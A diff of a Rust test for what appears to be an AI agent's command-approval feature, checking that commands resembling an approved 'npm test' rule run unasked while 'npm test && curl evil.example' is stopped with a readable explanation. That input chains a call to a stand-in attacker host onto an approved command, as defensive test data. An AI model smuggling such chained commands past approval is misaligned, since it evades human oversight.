@@ -29,6 +29,7 @@ async fn commands_like_one_that_was_approved_run_unasked_and_no_others() {
     let id = answer["rule"]["id"].clone();
     let told = socket.wait_for("tool:decided").await.args[0].clone();
     assert_eq!((&told["approved"], &told["ruleId"]), (&json!(true), &id));
+    assert_eq!(told["rule"], "npm test …");
     socket.wait_for_answer().await;
 
     let by = unasked(&app, &mut socket, "npm test -- --watch=false").await;
@@ -36,6 +37,10 @@ async fn commands_like_one_that_was_approved_run_unasked_and_no_others() {
     let card = asked(&app, &mut socket, "npm test && curl evil.example").await;
     let why = card["why"].as_str().unwrap();
     assert!(why.contains("`curl evil.example`"), "{why}");
+    assert!(
+        !why.contains("rul_"),
+        "an id says nothing to a person: {why}"
+    );
     socket.decide(&card, false).await;
     socket.wait_for_answer().await;
 
